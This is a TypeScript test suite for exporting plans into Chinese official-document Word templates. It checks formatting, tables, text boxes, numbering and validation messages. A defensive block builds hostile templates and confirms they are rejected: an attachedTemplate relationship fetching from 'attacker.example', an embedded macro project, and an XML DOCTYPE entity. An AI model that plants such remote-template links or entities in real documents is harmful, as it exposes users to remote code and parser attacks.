import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import mammoth from 'mammoth'
import { describe, expect, it } from 'vitest'
import type { ComposingOptions } from '#shared/composing/composing-options.ts'
import { ownerClause } from '#shared/composing/owner-clause.ts'
import { exportForm } from '#main/docx/export-form.ts'
import { inspectForm } from '#main/docx/form/inspect-form.ts'
import { readDocx } from '#main/docx/read/read-docx.ts'
import { neededFields } from '../../support/header-fields.ts'
import type { FormParts } from '../../support/office/office-form.ts'
import { line, officeForm } from '../../support/office/office-form.ts'
import { p, r, rawDocx } from '../../support/office/raw-docx.ts'
import { validationErrors } from '../../support/office/validate.ts'
import { planOf } from '../../support/plan-builder.ts'
import { samplePlan } from '../../support/sample-plan.ts'

const rows = samplePlan()
const options = (fields: ComposingOptions['fields'] = neededFields): ComposingOptions => ({
  profile: 'strict',
  fonts: 'gb2312',
  fields,
  renderOwners: ownerClause,
})
const problems = async (parts: FormParts) => inspectForm(await officeForm(parts)).problems
const texts = (bytes: Uint8Array) =>
  readDocx(bytes, { revisions: 'accepted' }).paragraphs.map(({ text }) => text)
const xmlOf = (bytes: Uint8Array, name = 'word/document.xml') => strFromU8(unzipSync(bytes)[name]!)

describe("a plan on an office's own template", () => {
  it('is filled, verified and valid, with all else of the file as it was', async () => {
    const template = await officeForm({ headings: true })
    const made = await exportForm(template, rows, options())
    expect(made.checks.filter(check => !check.ok)).toEqual([])
    expect(made.missing).toEqual([])
    expect(await validationErrors(template)).toEqual([])
    expect(await validationErrors(made.bytes)).toEqual([])

    const [before, after] = [unzipSync(template), unzipSync(made.bytes)]
    expect(Object.keys(after)).toEqual(Object.keys(before))
    const changed = Object.keys(before).filter(name => !Buffer.from(before[name]!).equals(after[name]!))
    expect(changed.sort()).toEqual(['word/document.xml', 'word/footer1.xml', 'word/header1.xml'])
    expect(xmlOf(made.bytes, 'word/header1.xml')).toContain(`某某委员会 ${texts(made.bytes)[0]}`)
    expect(xmlOf(made.bytes, 'word/footer1.xml')).toContain(neededFields.number)

    // A placeholder that Word split over three runs takes the format of the first; what stood around is kept.
    expect(xmlOf(made.bytes)).toMatch(
      /<w:color w:val="FF0000"\/><w:sz w:val="44"\/><w:szCs w:val="44"\/><\/w:rPr><w:t xml:space="preserve">深化数字浙江建设/,
    )
    const all = texts(made.bytes)
    expect(all).toContain('承办：第3处')
    expect(all).toContain(`${neededFields.recipients}：`)
    expect(all.join('\n')).not.toMatch(/\{\{|待补/)
    const independent = (await mammoth.extractRawText({ buffer: Buffer.from(made.bytes) })).value
    expect(independent.replace(/\s/g, '')).toBe(all.join('').replace(/\s/g, ''))
  })

  it("sets headings in the template's own styles, text and owners as the placeholder is set", async () => {
    const { bytes } = await exportForm(await officeForm({ headings: true }), rows, options())
    const read = readDocx(bytes, { revisions: 'accepted' }).paragraphs
    const sections = rows.blocks.filter(block => block.type === 'section')
    const found = read.filter(({ styleName }) => styleName === 'heading 1')
    expect(found).toHaveLength(sections.length)
    expect(read.filter(({ styleName }) => styleName === 'heading 2').length).toBeGreaterThan(0)
    const text = /<w:p><w:pPr>(?:(?!<\/w:p>).)*w:firstLine="640"(?:(?!<\/w:p>).)*eastAsia="仿宋_GB2312"/
    expect(xmlOf(bytes)).toMatch(text)
  })

  it('a heading that runs on into its text is bold as far as the heading goes', async () => {
    const plan = planOf([
      { type: 'title', text: '要点' },
      { type: 'section', text: '完善机制。各地要建立台账，逐项落实。', lead: ['省科技厅'] },
    ])
    const { bytes, verified } = await exportForm(await officeForm({ headings: true }), plan, options())
    expect(verified).toBe(true)
    const runs = /<w:t [^>]*>一、<\/w:t>.*?<\/w:p>/s.exec(xmlOf(bytes))![0].split('</w:r>')
    const [heading, text, owners] = [runs[1]!, runs[2]!, runs[3]!]
    expect(heading).toContain('完善机制。')
    expect(heading).not.toContain('<w:b ')
    expect(text).toContain('<w:b w:val="0"/>')
    expect(text).toMatch(/w:eastAsia="仿宋_GB2312".*<w:sz w:val="32"\/>.*各地要/)
    expect(owners).toMatch(/w:eastAsia="楷体_GB2312".*<w:b w:val="0"\/>.*省科技厅/)
  })

  it('without heading styles takes the face of each layer and the outline level', async () => {
    const typed = (text: string) => p(r(text, '<w:sz w:val="32"/>'), '<w:ind w:firstLine="640"/>')
    const template = rawDocx({ styles: '', body: typed('{{标题}}') + typed('{{正文}}') + p('') })
    const xml = xmlOf((await exportForm(template, rows, options())).bytes)
    for (const [level, font] of [
      [0, '黑体'],
      [1, '楷体_GB2312'],
    ] as const)
      expect(xml).toMatch(
        new RegExp(
          `w:firstLine="640"/><w:outlineLvl w:val="${level}"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="${font}".{0,90}<w:sz w:val="32"/></w:rPr>`,
        ),
      )
  })

  it('prints the tables with styles that are added to those of the template', async () => {
    const more = [line('总体情况：{{总体情况}}'), line('{{目标指标表}}'), line('{{任务分解表}}')]
    const template = await officeForm({ headings: true, more })
    const made = await exportForm(template, rows, options())
    expect(made.checks.filter(check => !check.ok)).toEqual([])
    expect(await validationErrors(made.bytes)).toEqual([])
    expect(readDocx(made.bytes, { revisions: 'accepted' }).tables).toHaveLength(3)
    const [before, after] = [xmlOf(template, 'word/styles.xml'), xmlOf(made.bytes, 'word/styles.xml')]
    const at = before.lastIndexOf('</')
    expect(after.slice(0, at)).toBe(before.slice(0, at))
    expect(after).toContain('w:styleId="Gw-tableCell"')
  })

  it.each(['{{任务分解表}}', '{{目标指标表}}', '{{正文（不含责任单位）}}', '｛｛ 正文 ｝｝'])(
    'can be %s alone',
    async body => {
      const made = await exportForm(await officeForm({ body }), rows, options())
      expect(made.checks.filter(check => !check.ok)).toEqual([])
      expect(await validationErrors(made.bytes)).toEqual([])
      expect(texts(made.bytes).some(text => text.includes('（牵头单位：'))).toBe(body.includes('｛'))
    },
  )

  it('marks and lists what is not given, and leaves out what may be absent', async () => {
    const made = await exportForm(await officeForm(), rows, options({ issuer: '某省人民政府办公厅' }))
    expect(made.missing).toEqual(['number', 'recipients', 'date', 'printer', 'printDate'])
    expect(made.checks.filter(check => !check.ok)).toEqual([])
    const all = texts(made.bytes)
    expect(all).toContain('【待补：主送机关】：')
    expect(all.join('')).not.toContain('附注')
    expect(xmlOf(made.bytes, 'word/footer1.xml')).toContain('【待补：发文字号】')
    const given = await exportForm(
      await officeForm(),
      rows,
      options({ ...neededFields, note: '此件公开发布' }),
    )
    expect(texts(given.bytes)).toContain('此件公开发布')
  })

  it('is filled in text boxes, for programs that know them and for those that do not', async () => {
    const box = (text: string) => `<w:txbxContent>${p(r(text))}</w:txbxContent>`
    const both = `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><wps:wsp><wps:txbx>${box('{{发文字号}}')}</wps:txbx></wps:wsp></mc:Choice><mc:Fallback><w:pict><v:textbox>${box('{{发文字号}}')}</v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>`
    const template = rawDocx({ body: p(r('{{标题}}')) + p(both) + p(r('{{正文}}')) + p('') + '<w:sectPr/>' })
    const made = await exportForm(template, rows, options())
    expect(made.checks.filter(check => !check.ok)).toEqual([])
    expect(xmlOf(made.bytes).split(neededFields.number)).toHaveLength(3)
  })

  it('keeps the section that ends with the paragraph of the placeholder', async () => {
    const section = '<w:sectPr><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/></w:sectPr>'
    for (const body of ['{{正文}}', '{{任务分解表}}']) {
      const template = rawDocx({
        styles: '',
        body: p(r('{{标题}}')) + p(r(body), section) + p(r('完')) + '<w:sectPr/>',
      })
      const made = await exportForm(template, rows, options())
      expect(made.checks.filter(check => !check.ok)).toEqual([])
      expect(xmlOf(made.bytes).match(/landscape/g)).toHaveLength(1)
      // The section still ends before the last paragraph, after the plan.
      expect(xmlOf(made.bytes)).toMatch(/landscape.*完/s)
    }
  })

  it('a number of the template is not printed before the numbers of the plan', async () => {
    const list = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'
    const numbering =
      '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    const template = rawDocx({ numbering, body: p(r('{{标题}}'), list) + p(r('{{正文}}'), list) + p('') })
    const { checks, bytes } = await exportForm(template, rows, options())
    expect(checks.find(({ rule }) => rule === 'text')).toMatchObject({ ok: true })
    const labels = readDocx(bytes, { revisions: 'accepted' }).paragraphs.map(({ autoLabel }) => autoLabel)
    expect(labels.filter(label => label !== '')).toEqual(['1.'])
  })
})

describe('a template that cannot be used', () => {
  it.each([
    ['{{发文号}}', '是否应为“{{发文字号}}”？'],
    ['{{抄送}}', '是否应为“{{抄送机关}}”？'],
    ['{{完全不知道的东西}}', '可用的有：标题、'],
    ['{{标题', '没有写完整'],
    ['请见{{任务分解表}}', '独占一段'],
    ['{{正文}}', '内容重复'],
  ])('with %s says where and what to do', async (text, words) => {
    const found = await problems({ more: [line(text)] })
    expect(found).toHaveLength(1)
    expect(found[0]).toContain(words)
    if (words !== '内容重复') expect(found[0]).toContain('正文第5段')
  })

  it('says what is missing and what stands where it has no room', async () => {
    expect(await problems({ body: '本委工作' })).toEqual([expect.stringContaining('没有方案内容的位置')])
    const cell = `<w:tbl><w:tr><w:tc>${p(r('{{正文}}'))}</w:tc></w:tr></w:tbl>`
    const found = inspectForm(rawDocx({ body: cell + p('') })).problems
    expect(found).toEqual([expect.stringContaining('第1个表格第1行'), expect.stringContaining('{{标题}}')])
  })

  it.each([
    ['tracked changes', { body: `<w:ins w:id="1" w:author="张三">${r('新')}</w:ins>` }, '修订'],
    ['macros', { body: r('x'), files: { 'word/vbaProject.bin': strToU8('x') } }, '宏'],
    [
      'parts fetched from outside',
      {
        body: r('x'),
        relations:
          '<Relationship Id="z" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/a.dotm" TargetMode="External"/>',
      },
      '文件之外',
    ],
  ])('with %s is not used', async (_, parts, words) => {
    const template = rawDocx({ ...parts, body: p(r('{{标题}}')) + p(r('{{正文}}')) + p(parts.body) })
    expect(inspectForm(template).problems).toEqual([expect.stringContaining(words)])
    await expect(exportForm(template, rows, options())).rejects.toThrow(words)
  })

  it('is refused under the guards of the reader', async () => {
    const files = unzipSync(await officeForm())
    const xml = strFromU8(files['word/document.xml']!)
    files['word/document.xml'] = strToU8(xml.replace('?>', '?><!DOCTYPE w [<!ENTITY a "b">]>'))
    expect(() => inspectForm(zipSync(files))).toThrow(/不安全/)
    expect(() => inspectForm(strToU8('not a zip'))).toThrow(/不是 Word 文档/)
  })
})
